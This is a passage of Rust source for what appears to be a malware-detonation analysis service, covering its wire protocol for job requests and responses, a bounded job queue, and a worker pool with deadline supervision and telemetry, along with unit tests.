            Ok(n) => filled += n,
            Err(e) if e.kind() == io::ErrorKind::Interrupted => {}
            Err(e) => return Err(FrameError::Io(e)),
        }
    }
    let len = u32::from_le_bytes(prefix);
    if len > MAX_FRAME {
        return Err(FrameError::TooLarge(len));
    }
    let mut payload = vec![0u8; len as usize];
    let mut filled = 0;
    while filled < payload.len() {
        match r.read(&mut payload[filled..]) {
            Ok(0) => return Err(FrameError::Truncated { expected: payload.len(), got: filled }),
            Ok(n) => filled += n,
            Err(e) if e.kind() == io::ErrorKind::Interrupted => {}
            Err(e) => return Err(FrameError::Io(e)),
        }
    }
    String::from_utf8(payload)
        .map(Some)
        .map_err(|e| FrameError::Malformed(format!("payload is not UTF-8: {e}")))
}

/// A client request.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Request {
    /// Submit a job; answered by [`Response::Submitted`],
    /// [`Response::QueueFull`], or [`Response::ShuttingDown`].
    Submit(JobSpec),
    /// Current view of one job; answered by [`Response::Job`] or
    /// [`Response::UnknownJob`].
    Status {
        /// Job id returned by submit.
        id: u64,
    },
    /// Like `Status`, but blocks until the job is terminal.
    Wait {
        /// Job id returned by submit.
        id: u64,
    },
    /// Service-wide stats; answered by [`Response::Stats`].
    Stats,
    /// Drain the queue and stop; answered (after the drain) by
    /// [`Response::Shutdown`] carrying the final stats.
    Shutdown {
        /// `true` drains queued jobs first; `false` cancels them.
        drain: bool,
    },
    /// Liveness probe; answered by [`Response::Pong`].
    Ping,
    /// Live telemetry: merged report metrics + cost channel + service
    /// gauges; answered by [`Response::Metrics`].
    Metrics,
    /// Health verdict from the SLO rules; answered by
    /// [`Response::Health`].
    Health,
    /// The newest `tail` service flight-recorder events; answered by
    /// [`Response::Trace`].
    Trace {
        /// How many events from the end of the ring to return.
        tail: u64,
    },
}

impl ToJson for Request {
    fn to_json_value(&self) -> JsonValue {
        let mut fields: Vec<(&str, JsonValue)> = Vec::new();
        match self {
            Request::Submit(spec) => {
                fields.push(("type", "submit".to_json_value()));
                fields.push(("spec", spec.to_json_value()));
            }
            Request::Status { id } => {
                fields.push(("type", "status".to_json_value()));
                fields.push(("id", id.to_json_value()));
            }
            Request::Wait { id } => {
                fields.push(("type", "wait".to_json_value()));
                fields.push(("id", id.to_json_value()));
            }
            Request::Stats => fields.push(("type", "stats".to_json_value())),
            Request::Shutdown { drain } => {
                fields.push(("type", "shutdown".to_json_value()));
                fields.push(("drain", drain.to_json_value()));
            }
            Request::Ping => fields.push(("type", "ping".to_json_value())),
            Request::Metrics => fields.push(("type", "metrics".to_json_value())),
            Request::Health => fields.push(("type", "health".to_json_value())),
            Request::Trace { tail } => {
                fields.push(("type", "trace".to_json_value()));
                fields.push(("tail", tail.to_json_value()));
            }
        }
        JsonValue::object(fields)
    }
}

impl FromJson for Request {
    fn from_json_value(v: &JsonValue) -> Result<Request, JsonError> {
        let ty: String = json::field(v, "type")?;
        match ty.as_str() {
            "submit" => Ok(Request::Submit(json::field(v, "spec")?)),
            "status" => Ok(Request::Status { id: json::field(v, "id")? }),
            "wait" => Ok(Request::Wait { id: json::field(v, "id")? }),
            "stats" => Ok(Request::Stats),
            "shutdown" => Ok(Request::Shutdown { drain: json::field(v, "drain")? }),
            "ping" => Ok(Request::Ping),
            "metrics" => Ok(Request::Metrics),
            "health" => Ok(Request::Health),
            "trace" => Ok(Request::Trace { tail: json::field(v, "tail")? }),
            other => Err(JsonError::decode(format!("unknown request type `{other}`"))),
        }
    }
}

/// A server response.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Response {
    /// The job was admitted.
    Submitted {
        /// Its id, for status/wait.
        id: u64,
    },
    /// Backpressure: the queue is at capacity. Retry after jobs drain.
    QueueFull {
        /// The queue capacity that was hit.
        capacity: u64,
    },
    /// The service no longer admits jobs.
    ShuttingDown,
    /// One job's view.
    Job(JobView),
    /// No job has this id.
    UnknownJob {
        /// The id asked about.
        id: u64,
    },
    /// Service-wide stats.
    Stats(ServiceStats),
    /// Final stats, sent once the shutdown finished.
    Shutdown(ServiceStats),
    /// Liveness answer.
    Pong,
    /// The live telemetry snapshot (merged report metrics, cost channel,
    /// service gauges).
    Metrics(MetricsSnapshot),
    /// The health verdict.
    Health(HealthReport),
    /// The newest service flight-recorder events, oldest first.
    Trace {
        /// The tail of the ring.
        events: Vec<TraceEvent>,
        /// Events the ring has evicted in total (0 unless undersized).
        dropped: u64,
    },
    /// The request could not be decoded or handled; the connection stays
    /// usable.
    Error {
        /// What went wrong.
        message: String,
    },
}

impl ToJson for Response {
    fn to_json_value(&self) -> JsonValue {
        let mut fields: Vec<(&str, JsonValue)> = Vec::new();
        match self {
            Response::Submitted { id } => {
                fields.push(("type", "submitted".to_json_value()));
                fields.push(("id", id.to_json_value()));
            }
            Response::QueueFull { capacity } => {
                fields.push(("type", "queue-full".to_json_value()));
                fields.push(("capacity", capacity.to_json_value()));
            }
            Response::ShuttingDown => {
                fields.push(("type", "shutting-down".to_json_value()));
            }
            Response::Job(view) => {
                fields.push(("type", "job".to_json_value()));
                fields.push(("job", view.to_json_value()));
            }
            Response::UnknownJob { id } => {
                fields.push(("type", "unknown-job".to_json_value()));
                fields.push(("id", id.to_json_value()));
            }
            Response::Stats(stats) => {
                fields.push(("type", "stats".to_json_value()));
                fields.push(("stats", stats.to_json_value()));
            }
            Response::Shutdown(stats) => {
                fields.push(("type", "shutdown".to_json_value()));
                fields.push(("stats", stats.to_json_value()));
            }
            Response::Pong => fields.push(("type", "pong".to_json_value())),
            Response::Metrics(snapshot) => {
                fields.push(("type", "metrics".to_json_value()));
                fields.push(("metrics", snapshot.to_json_value()));
            }
            Response::Health(report) => {
                fields.push(("type", "health".to_json_value()));
                fields.push(("health", report.to_json_value()));
            }
            Response::Trace { events, dropped } => {
                fields.push(("type", "trace".to_json_value()));
                fields.push(("events", events.to_json_value()));
                fields.push(("dropped", dropped.to_json_value()));
            }
            Response::Error { message } => {
                fields.push(("type", "error".to_json_value()));
                fields.push(("message", message.to_json_value()));
            }
        }
        JsonValue::object(fields)
    }
}

impl FromJson for Response {
    fn from_json_value(v: &JsonValue) -> Result<Response, JsonError> {
        let ty: String = json::field(v, "type")?;
        match ty.as_str() {
            "submitted" => Ok(Response::Submitted { id: json::field(v, "id")? }),
            "queue-full" => Ok(Response::QueueFull { capacity: json::field(v, "capacity")? }),
            "shutting-down" => Ok(Response::ShuttingDown),
            "job" => Ok(Response::Job(json::field(v, "job")?)),
            "unknown-job" => Ok(Response::UnknownJob { id: json::field(v, "id")? }),
            "stats" => Ok(Response::Stats(json::field(v, "stats")?)),
            "shutdown" => Ok(Response::Shutdown(json::field(v, "stats")?)),
            "pong" => Ok(Response::Pong),
            "metrics" => Ok(Response::Metrics(json::field(v, "metrics")?)),
            "health" => Ok(Response::Health(json::field(v, "health")?)),
            "trace" => Ok(Response::Trace {
                events: json::field(v, "events")?,
                dropped: json::field(v, "dropped")?,
            }),
            "error" => Ok(Response::Error { message: json::field(v, "message")? }),
            other => Err(JsonError::decode(format!("unknown response type `{other}`"))),
        }
    }
}

/// Decodes a request frame payload.
///
/// # Errors
///
/// [`FrameError::Malformed`] for anything that is not a valid request.
pub fn decode_request(payload: &str) -> Result<Request, FrameError> {
    Ok(Request::from_json_value(&JsonValue::parse(payload)?)?)
}

/// Decodes a response frame payload.
///
/// # Errors
///
/// [`FrameError::Malformed`] for anything that is not a valid response.
pub fn decode_response(payload: &str) -> Result<Response, FrameError> {
    Ok(Response::from_json_value(&JsonValue::parse(payload)?)?)
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::io::Cursor;

    #[test]
    fn frames_round_trip() {
        let mut buf = Vec::new();
        write_frame(&mut buf, "hello").unwrap();
        write_frame(&mut buf, "").unwrap();
        let mut r = Cursor::new(buf);
        assert_eq!(read_frame(&mut r).unwrap(), Some("hello".to_string()));
        assert_eq!(read_frame(&mut r).unwrap(), Some(String::new()));
        assert_eq!(read_frame(&mut r).unwrap(), None, "clean EOF");
    }

    #[test]
    fn truncated_prefix_and_payload_are_structured_errors() {
        let mut r = Cursor::new(vec![5u8, 0]);
        assert!(matches!(
            read_frame(&mut r),
            Err(FrameError::Truncated { expected: 4, got: 2 })
        ));
        let mut buf = Vec::new();
        write_frame(&mut buf, "hello").unwrap();
        buf.truncate(buf.len() - 2);
        let mut r = Cursor::new(buf);
        assert!(matches!(
            read_frame(&mut r),
            Err(FrameError::Truncated { expected: 5, got: 3 })
        ));
    }

    #[test]
    fn oversized_prefix_is_refused_before_allocation() {
        let mut bytes = Vec::new();
        bytes.extend_from_slice(&u32::MAX.to_le_bytes());
        bytes.extend_from_slice(b"whatever");
        let mut r = Cursor::new(bytes);
        assert!(matches!(read_frame(&mut r), Err(FrameError::TooLarge(u32::MAX))));
    }

    #[test]
    fn requests_and_responses_round_trip() {
        let reqs = vec![
            Request::Submit(JobSpec::Scenario { name: "x".into() }),
            Request::Status { id: 3 },
            Request::Wait { id: 4 },
            Request::Stats,
            Request::Shutdown { drain: true },
            Request::Ping,
            Request::Metrics,
            Request::Health,
            Request::Trace { tail: 32 },
        ];
        for req in reqs {
            let payload = req.to_json_value().to_compact();
            assert_eq!(decode_request(&payload).unwrap(), req);
        }
        let resps = vec![
            Response::Submitted { id: 9 },
            Response::QueueFull { capacity: 64 },
            Response::ShuttingDown,
            Response::UnknownJob { id: 12 },
            Response::Pong,
            Response::Metrics(MetricsSnapshot::default()),
            Response::Health(HealthReport::default()),
            Response::Trace {
                events: vec![faros_obs::trace::TraceEvent::instant(
                    7,
                    1,
                    2,
                    faros_obs::trace::TraceCategory::Service,
                    "deadline-exceeded",
                )],
                dropped: 0,
            },
            Response::Error { message: "nope".into() },
        ];
        for resp in resps {
            let payload = resp.to_json_value().to_compact();
            assert_eq!(decode_response(&payload).unwrap(), resp);
        }
    }

    #[test]
    fn garbage_payloads_decode_to_errors_not_panics() {
        for garbage in ["", "{", "[1,2", "{\"type\":\"warp\"}", "{\"no_type\":1}", "\u{0}"] {
            assert!(decode_request(garbage).is_err(), "{garbage:?} must be refused");
        }
    }
}
