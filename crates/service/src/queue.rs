//! A bounded MPMC queue on `Mutex` + `Condvar` — the admission control of
//! the detonation service.
//!
//! Capacity is the backpressure boundary: [`BoundedQueue::try_push`]
//! rejects when full (the server turns that into a structured `QueueFull`
//! response), [`BoundedQueue::push_wait`] blocks until space frees (the
//! in-process submission path). [`BoundedQueue::close`] flips the queue
//! into drain mode: pushes are refused, pops keep succeeding until the
//! queue is empty, then return `None` — which is exactly the worker-pool
//! shutdown contract ("drain in-flight jobs, reject new ones").

use std::collections::VecDeque;
use std::sync::{Condvar, Mutex};

/// Why a push was refused.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum PushError {
    /// The queue is at capacity (backpressure; retry or report).
    Full,
    /// The queue is closed (service shutting down).
    Closed,
}

struct State<T> {
    items: VecDeque<T>,
    closed: bool,
    /// Deepest the queue has ever been (for the high-water gauge).
    high_water: usize,
}

/// A bounded multi-producer multi-consumer FIFO queue.
pub struct BoundedQueue<T> {
    cap: usize,
    state: Mutex<State<T>>,
    /// Signals consumers (item available / closed).
    not_empty: Condvar,
    /// Signals blocked producers (space available / closed).
    not_full: Condvar,
}

impl<T> std::fmt::Debug for BoundedQueue<T> {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("BoundedQueue").field("capacity", &self.cap).finish()
    }
}

impl<T> BoundedQueue<T> {
    /// Creates a queue holding at most `capacity` items (min 1).
    pub fn new(capacity: usize) -> BoundedQueue<T> {
        BoundedQueue {
            cap: capacity.max(1),
            state: Mutex::new(State { items: VecDeque::new(), closed: false, high_water: 0 }),
            not_empty: Condvar::new(),
            not_full: Condvar::new(),
        }
    }

    /// The capacity the queue admits.
    pub fn capacity(&self) -> usize {
        self.cap
    }

    /// Current depth.
    pub fn len(&self) -> usize {
        self.state.lock().expect("queue poisoned").items.len()
    }

    /// Returns `true` when nothing is queued.
    pub fn is_empty(&self) -> bool {
        self.len() == 0
    }

    /// Deepest the queue has ever been.
    pub fn high_water(&self) -> usize {
        self.state.lock().expect("queue poisoned").high_water
    }

    /// Returns `true` once [`BoundedQueue::close`] has been called.
    pub fn is_closed(&self) -> bool {
        self.state.lock().expect("queue poisoned").closed
    }

    /// Non-blocking push: refused with [`PushError::Full`] at capacity and
    /// [`PushError::Closed`] after close.
    pub fn try_push(&self, item: T) -> Result<(), PushError> {
        let mut s = self.state.lock().expect("queue poisoned");
        if s.closed {
            return Err(PushError::Closed);
        }
        if s.items.len() >= self.cap {
            return Err(PushError::Full);
        }
        s.items.push_back(item);
        s.high_water = s.high_water.max(s.items.len());
        self.not_empty.notify_one();
        Ok(())
    }

    /// Blocking push: waits for space, failing only with
    /// [`PushError::Closed`] if the queue closes while (or before)
    /// waiting.
    pub fn push_wait(&self, item: T) -> Result<(), PushError> {
        let mut s = self.state.lock().expect("queue poisoned");
        loop {
            if s.closed {
                return Err(PushError::Closed);
            }
            if s.items.len() < self.cap {
                s.items.push_back(item);
                s.high_water = s.high_water.max(s.items.len());
                self.not_empty.notify_one();
                return Ok(());
            }
            s = self.not_full.wait(s).expect("queue poisoned");
        }
    }

    /// Blocks until the queue has space for at least one item (or is
    /// closed). Returns `true` when space was observed, `false` on close.
    /// The space is not reserved — a racing producer may take it, so
    /// callers retry their push.
    pub fn wait_space(&self) -> bool {
        let mut s = self.state.lock().expect("queue poisoned");
        loop {
            if s.closed {
                return false;
            }
            if s.items.len() < self.cap {
                return true;
            }
            s = self.not_full.wait(s).expect("queue poisoned");
        }
    }

    /// Blocking pop: returns `None` only when the queue is closed *and*
    /// drained — consumers exit exactly once the backlog is gone.
    pub fn pop(&self) -> Option<T> {
        let mut s = self.state.lock().expect("queue poisoned");
        loop {
            if let Some(item) = s.items.pop_front() {
                self.not_full.notify_one();
                return Some(item);
            }
            if s.closed {
                return None;
            }
            s = self.not_empty.wait(s).expect("queue poisoned");
        }
    }

    /// Closes the queue: pushes are refused from now on, pops drain what
    /// remains. Wakes every waiter.
    pub fn close(&self) {
        let mut s = self.state.lock().expect("queue poisoned");
        s.closed = true;
        drop(s);
        self.not_empty.notify_all();
        self.not_full.notify_all();
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::sync::Arc;
    use std::thread;
    use std::time::Duration;

    #[test]
    fn try_push_respects_capacity() {
        let q = BoundedQueue::new(2);
        assert_eq!(q.try_push(1), Ok(()));
        assert_eq!(q.try_push(2), Ok(()));
        assert_eq!(q.try_push(3), Err(PushError::Full));
        assert_eq!(q.len(), 2);
        assert_eq!(q.high_water(), 2);
        assert_eq!(q.pop(), Some(1));
        assert_eq!(q.try_push(3), Ok(()));
    }

    #[test]
    fn close_drains_then_stops_consumers() {
        let q = BoundedQueue::new(4);
        q.try_push(1).unwrap();
        q.try_push(2).unwrap();
        q.close();
        assert_eq!(q.try_push(3), Err(PushError::Closed));
        assert_eq!(q.pop(), Some(1));
        assert_eq!(q.pop(), Some(2));
        assert_eq!(q.pop(), None, "closed and drained");
    }

    #[test]
    fn push_wait_unblocks_on_space_and_fails_on_close() {
        let q = Arc::new(BoundedQueue::new(1));
        q.try_push(0u32).unwrap();
        let producer = {
            let q = Arc::clone(&q);
            thread::spawn(move || q.push_wait(1))
        };
        thread::sleep(Duration::from_millis(20));
        assert_eq!(q.pop(), Some(0), "make space for the blocked producer");
        assert_eq!(producer.join().unwrap(), Ok(()));

        let q2 = Arc::new(BoundedQueue::new(1));
        q2.try_push(0u32).unwrap();
        let blocked = {
            let q2 = Arc::clone(&q2);
            thread::spawn(move || q2.push_wait(1))
        };
        thread::sleep(Duration::from_millis(20));
        q2.close();
        assert_eq!(blocked.join().unwrap(), Err(PushError::Closed));
    }

    #[test]
    fn mpmc_delivers_every_item_exactly_once() {
        let q = Arc::new(BoundedQueue::new(8));
        let consumers: Vec<_> = (0..4)
            .map(|_| {
                let q = Arc::clone(&q);
                thread::spawn(move || {
                    let mut got = Vec::new();
                    while let Some(v) = q.pop() {
                        got.push(v);
                    }
                    got
                })
            })
            .collect();
        for i in 0..100u32 {
            q.push_wait(i).unwrap();
        }
        q.close();
        let mut all: Vec<u32> =
            consumers.into_iter().flat_map(|c| c.join().unwrap()).collect();
        all.sort_unstable();
        assert_eq!(all, (0..100).collect::<Vec<_>>());
    }
}
