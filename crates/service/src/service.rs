//! The detonation service core: a bounded job queue feeding a pool of
//! replay+analyze workers.
//!
//! [`Detonator::start`] spawns N workers that pop job ids off a
//! [`BoundedQueue`], resolve each job's scenario, replay and analyze it
//! through the *same* pipeline the CLI uses
//! ([`faros::analyze_recording`]) — which is what makes parallel
//! reports byte-identical to sequential runs — and publish a structured
//! [`JobStatus`].
//!
//! Fault containment is claim-token based. Every execution attempt takes a
//! fresh claim token; results are only accepted when the publishing
//! attempt still holds the job's token. A worker that panics mid-job has
//! the panic caught per job ([`std::panic::catch_unwind`]), publishes a
//! `worker-panic` failure, and is replaced. A worker that blows the
//! per-job deadline is *retired* by the supervisor: the job fails with
//! `deadline-exceeded`, the stalled thread is detached (its claim token is
//! dead, so a late result is dropped on the floor), and a replacement
//! worker joins the pool.
//!
//! Shutdown is drain-based: [`Detonator::shutdown`] closes the queue
//! (new submissions are refused), lets the workers finish the backlog,
//! then joins them. [`Detonator::shutdown_now`] additionally cancels jobs
//! still queued.

use crate::fault::{self, Fault, FaultPlan, PanicAt};
use crate::health::{self, HealthReport};
use crate::job::{FailureKind, JobFailure, JobResult, JobSpec, JobStatus, JobView};
use crate::queue::{BoundedQueue, PushError};
use faros::AnalysisConfig;
use faros_obs::metrics::{MetricsRegistry, MetricsSnapshot, QueueGauges, Utilization};
use faros_obs::trace::{FlightRecorder, TraceCategory, TraceEvent};
use faros_replay::{record, replay, PluginManager, Recording};
use faros_support::json::{self, FromJson, JsonError, JsonValue, ToJson};
use std::collections::HashMap;
use std::panic::{self, AssertUnwindSafe};
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::sync::{Arc, Condvar, Mutex};
use std::thread::{self, JoinHandle};
use std::time::{Duration, Instant};

/// Configuration of a [`Detonator`].
#[derive(Debug, Clone)]
pub struct ServiceConfig {
    /// Worker threads in the pool.
    pub workers: usize,
    /// Queue capacity — the backpressure boundary. Submissions beyond it
    /// are refused with [`SubmitError::QueueFull`].
    pub queue_capacity: usize,
    /// Per-job deadline. When set, a supervisor thread retires workers
    /// that stall past it and fails their job with `deadline-exceeded`.
    pub deadline: Option<Duration>,
    /// The analysis configuration every job runs under (policy, taint
    /// mode, budget, per-job trace capture).
    pub analysis: AnalysisConfig,
}

impl Default for ServiceConfig {
    fn default() -> ServiceConfig {
        ServiceConfig {
            workers: 4,
            queue_capacity: 64,
            deadline: None,
            analysis: AnalysisConfig::default(),
        }
    }
}

/// Why a submission was refused.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum SubmitError {
    /// The queue is at capacity; retry after jobs drain.
    QueueFull,
    /// The service is shutting down and no longer admits jobs.
    ShuttingDown,
}

impl std::fmt::Display for SubmitError {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            SubmitError::QueueFull => f.write_str("queue full"),
            SubmitError::ShuttingDown => f.write_str("service shutting down"),
        }
    }
}

/// A point-in-time view of the service, merged across all finished jobs.
#[derive(Debug, Clone, PartialEq, Eq, Default)]
pub struct ServiceStats {
    /// Jobs admitted.
    pub submitted: u64,
    /// Submissions refused for backpressure (`QueueFull`).
    pub rejected: u64,
    /// Jobs finished successfully.
    pub completed: u64,
    /// Jobs finished with a structured failure (incl. cancelled).
    pub failed: u64,
    /// Jobs cancelled by [`Detonator::shutdown_now`].
    pub cancelled: u64,
    /// Current queue depth.
    pub queue_depth: u64,
    /// Deepest the queue has ever been.
    pub queue_high_water: u64,
    /// Workers currently alive.
    pub live_workers: u64,
    /// Workers ever spawned (initial pool + replacements).
    pub workers_spawned: u64,
    /// Workers replaced after a panic or deadline retirement.
    pub workers_replaced: u64,
    /// Job execution attempts the pool has run to completion.
    pub jobs_executed: u64,
    /// Wall-clock spent inside job execution, summed over workers.
    /// Human-facing only — never deterministic.
    pub busy_ns: u64,
    /// Flight-recorder events captured across all jobs.
    pub trace_events: u64,
    /// Flight-recorder events dropped across all jobs.
    pub trace_dropped: u64,
    /// Jobs failed by the deadline supervisor (each also replaced a
    /// worker).
    pub deadline_kills: u64,
    /// Every finished job's report metrics, merged. Order-independent, so
    /// it is identical however jobs interleave.
    pub merged: MetricsSnapshot,
    /// Every finished job's cost channel (queue-wait/replay/analyze/report
    /// phase histograms, plugin dispatch counts), merged. Wall-clock,
    /// human-facing only — kept apart from `merged` so that snapshot stays
    /// deterministic.
    pub cost: MetricsSnapshot,
}

impl ToJson for ServiceStats {
    fn to_json_value(&self) -> JsonValue {
        JsonValue::object(vec![
            ("submitted", self.submitted.to_json_value()),
            ("rejected", self.rejected.to_json_value()),
            ("completed", self.completed.to_json_value()),
            ("failed", self.failed.to_json_value()),
            ("cancelled", self.cancelled.to_json_value()),
            ("queue_depth", self.queue_depth.to_json_value()),
            ("queue_high_water", self.queue_high_water.to_json_value()),
            ("live_workers", self.live_workers.to_json_value()),
            ("workers_spawned", self.workers_spawned.to_json_value()),
            ("workers_replaced", self.workers_replaced.to_json_value()),
            ("jobs_executed", self.jobs_executed.to_json_value()),
            ("busy_ns", self.busy_ns.to_json_value()),
            ("trace_events", self.trace_events.to_json_value()),
            ("trace_dropped", self.trace_dropped.to_json_value()),
            ("deadline_kills", self.deadline_kills.to_json_value()),
            ("merged", self.merged.to_json_value()),
            ("cost", self.cost.to_json_value()),
        ])
    }
}

impl FromJson for ServiceStats {
    fn from_json_value(v: &JsonValue) -> Result<ServiceStats, JsonError> {
        Ok(ServiceStats {
            submitted: json::field(v, "submitted")?,
            rejected: json::field(v, "rejected")?,
            completed: json::field(v, "completed")?,
            failed: json::field(v, "failed")?,
            cancelled: json::field(v, "cancelled")?,
            queue_depth: json::field(v, "queue_depth")?,
            queue_high_water: json::field(v, "queue_high_water")?,
            live_workers: json::field(v, "live_workers")?,
            workers_spawned: json::field(v, "workers_spawned")?,
            workers_replaced: json::field(v, "workers_replaced")?,
            jobs_executed: json::field(v, "jobs_executed")?,
            busy_ns: json::field(v, "busy_ns")?,
            trace_events: json::field(v, "trace_events")?,
            trace_dropped: json::field(v, "trace_dropped")?,
            deadline_kills: json::field_or_default(v, "deadline_kills")?,
            merged: json::field(v, "merged")?,
            cost: json::field_or_default(v, "cost")?,
        })
    }
}

/// One job's execution claim: who is running it and since when.
#[derive(Debug)]
struct RunningJob {
    token: u64,
    worker: u64,
    started: Instant,
}

#[derive(Debug)]
struct JobEntry {
    spec: JobSpec,
    label: String,
    status: JobStatus,
    /// The claim token of the attempt allowed to publish; `None` when no
    /// attempt may (queued or terminal).
    claim: Option<u64>,
    /// When the job was admitted; a claiming worker turns the elapsed time
    /// into the job's `queue_wait` phase.
    submitted: Instant,
}

#[derive(Debug, Default)]
struct JobsTable {
    entries: Vec<JobEntry>,
    running: HashMap<u64, RunningJob>,
}

/// Service-level metrics: queue gauges + worker utilization in one
/// registry (see `faros_obs::metrics`).
struct ServiceMetrics {
    registry: MetricsRegistry,
    queue: QueueGauges,
    workers: Utilization,
}

struct Inner {
    config: ServiceConfig,
    faults: Arc<FaultPlan>,
    queue: BoundedQueue<u64>,
    jobs: Mutex<JobsTable>,
    jobs_cv: Condvar,
    metrics: Mutex<ServiceMetrics>,
    merged: Mutex<MetricsSnapshot>,
    cost: Mutex<MetricsSnapshot>,
    recorder: Mutex<FlightRecorder>,
    epoch: Instant,
    workers: Mutex<HashMap<u64, JoinHandle<()>>>,
    retired: Mutex<Vec<u64>>,
    stop_supervisor: AtomicBool,
    next_worker: AtomicU64,
    next_token: AtomicU64,
    submitted: AtomicU64,
    rejected: AtomicU64,
    completed: AtomicU64,
    failed: AtomicU64,
    cancelled: AtomicU64,
    live_workers: AtomicU64,
    workers_spawned: AtomicU64,
    workers_replaced: AtomicU64,
    trace_events: AtomicU64,
    trace_dropped: AtomicU64,
    deadline_kills: AtomicU64,
}

/// The detonation service: bounded queue + worker pool + supervisor.
///
/// # Examples
///
/// ```
/// use faros_service::{Detonator, JobSpec, JobStatus, ServiceConfig};
///
/// let svc = Detonator::start(ServiceConfig { workers: 2, ..ServiceConfig::default() });
/// let id = svc.submit(JobSpec::Scenario { name: "process_hollowing".into() }).unwrap();
/// let view = svc.wait(id);
/// match view.status {
///     JobStatus::Done(result) => assert!(result.flagged, "hollowing must be flagged"),
///     other => panic!("unexpected terminal state {other:?}"),
/// }
/// svc.shutdown();
/// ```
pub struct Detonator {
    inner: Arc<Inner>,
    supervisor: Mutex<Option<JoinHandle<()>>>,
}

impl std::fmt::Debug for Detonator {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("Detonator")
            .field("workers", &self.inner.config.workers)
            .field("queue_capacity", &self.inner.config.queue_capacity)
            .finish()
    }
}

impl Detonator {
    /// Starts the service with no fault plan.
    pub fn start(config: ServiceConfig) -> Detonator {
        Detonator::start_with_faults(config, Arc::new(FaultPlan::new()))
    }

    /// Starts the service with a fault plan (the fault-injection suite's
    /// entry point; production callers pass an empty plan via
    /// [`Detonator::start`]).
    pub fn start_with_faults(config: ServiceConfig, faults: Arc<FaultPlan>) -> Detonator {
        let mut registry = MetricsRegistry::new();
        let queue_gauges = QueueGauges::register(&mut registry, "service.queue");
        let utilization = Utilization::register(&mut registry, "service.workers");
        let inner = Arc::new(Inner {
            queue: BoundedQueue::new(config.queue_capacity),
            config,
            faults,
            jobs: Mutex::new(JobsTable::default()),
            jobs_cv: Condvar::new(),
            metrics: Mutex::new(ServiceMetrics {
                registry,
                queue: queue_gauges,
                workers: utilization,
            }),
            merged: Mutex::new(MetricsSnapshot::default()),
            cost: Mutex::new(MetricsSnapshot::default()),
            recorder: Mutex::new(FlightRecorder::new(1 << 12)),
            epoch: Instant::now(),
            workers: Mutex::new(HashMap::new()),
            retired: Mutex::new(Vec::new()),
            stop_supervisor: AtomicBool::new(false),
            next_worker: AtomicU64::new(0),
            next_token: AtomicU64::new(0),
            submitted: AtomicU64::new(0),
            rejected: AtomicU64::new(0),
            completed: AtomicU64::new(0),
            failed: AtomicU64::new(0),
            cancelled: AtomicU64::new(0),
            live_workers: AtomicU64::new(0),
            workers_spawned: AtomicU64::new(0),
            workers_replaced: AtomicU64::new(0),
            trace_events: AtomicU64::new(0),
            trace_dropped: AtomicU64::new(0),
            deadline_kills: AtomicU64::new(0),
        });
        for _ in 0..inner.config.workers.max(1) {
            Inner::spawn_worker(&inner);
        }
        let supervisor = inner.config.deadline.map(|deadline| {
            let inner = Arc::clone(&inner);
            thread::spawn(move || supervisor_loop(&inner, deadline))
        });
        Detonator { inner, supervisor: Mutex::new(supervisor) }
    }

    /// Submits a job without blocking. Refused with
    /// [`SubmitError::QueueFull`] when the queue is at capacity — the
    /// structured backpressure signal — and
    /// [`SubmitError::ShuttingDown`] after shutdown began.
    pub fn submit(&self, spec: JobSpec) -> Result<u64, SubmitError> {
        self.inner.admit(spec, false)
    }

    /// Submits a job, blocking while the queue is full. Fails only with
    /// [`SubmitError::ShuttingDown`].
    pub fn submit_wait(&self, spec: JobSpec) -> Result<u64, SubmitError> {
        self.inner.admit(spec, true)
    }

    /// The current view of job `id`, or `None` for an unknown id.
    pub fn status(&self, id: u64) -> Option<JobView> {
        let table = self.inner.jobs.lock().expect("jobs poisoned");
        table.entries.get(id as usize).map(|e| JobEntry::view(e, id))
    }

    /// Blocks until job `id` reaches a terminal state and returns it.
    ///
    /// # Panics
    ///
    /// Panics on an unknown job id.
    pub fn wait(&self, id: u64) -> JobView {
        let mut table = self.inner.jobs.lock().expect("jobs poisoned");
        loop {
            let entry = table.entries.get(id as usize).expect("unknown job id");
            if entry.status.is_terminal() {
                return JobEntry::view(entry, id);
            }
            table = self.inner.jobs_cv.wait(table).expect("jobs poisoned");
        }
    }

    /// Blocks until every submitted job is terminal (the queue is empty
    /// and no job is running).
    pub fn drain(&self) {
        let mut table = self.inner.jobs.lock().expect("jobs poisoned");
        while !table.entries.iter().all(|e| e.status.is_terminal()) {
            table = self.inner.jobs_cv.wait(table).expect("jobs poisoned");
        }
    }

    /// A point-in-time stats snapshot.
    pub fn stats(&self) -> ServiceStats {
        self.inner.stats()
    }

    /// The configured queue capacity (the backpressure boundary).
    pub fn queue_capacity(&self) -> usize {
        self.inner.queue.capacity()
    }

    /// The service-level metrics registry snapshot (queue gauges, worker
    /// utilization). Wall-clock fields are human-facing only.
    pub fn service_metrics(&self) -> MetricsSnapshot {
        self.inner.metrics.lock().expect("metrics poisoned").registry.snapshot()
    }

    /// The service-level flight-recorder trace (one `service`-category
    /// span per job attempt) as Chrome `trace_event` JSON.
    pub fn service_trace(&self) -> String {
        self.inner.recorder.lock().expect("recorder poisoned").to_chrome_json()
    }

    /// The live telemetry snapshot behind `Request::Metrics`: the
    /// deterministic merged report metrics, the wall-clock cost channel
    /// (phase latencies, plugin dispatches), and the service registry
    /// (queue gauges, worker utilization), folded into one snapshot. The
    /// three namespaces are disjoint, so the fold is lossless.
    pub fn telemetry_metrics(&self) -> MetricsSnapshot {
        let mut snapshot = self.inner.merged.lock().expect("merged poisoned").clone();
        snapshot.merge(&self.inner.cost.lock().expect("cost poisoned"));
        snapshot.merge(&self.service_metrics());
        snapshot
    }

    /// Evaluates the health SLOs against the current stats (see
    /// [`crate::health::evaluate`]).
    pub fn health(&self) -> HealthReport {
        health::evaluate(&self.stats(), self.queue_capacity() as u64)
    }

    /// The newest `n` service flight-recorder events (oldest first) plus
    /// how many the ring has evicted in total.
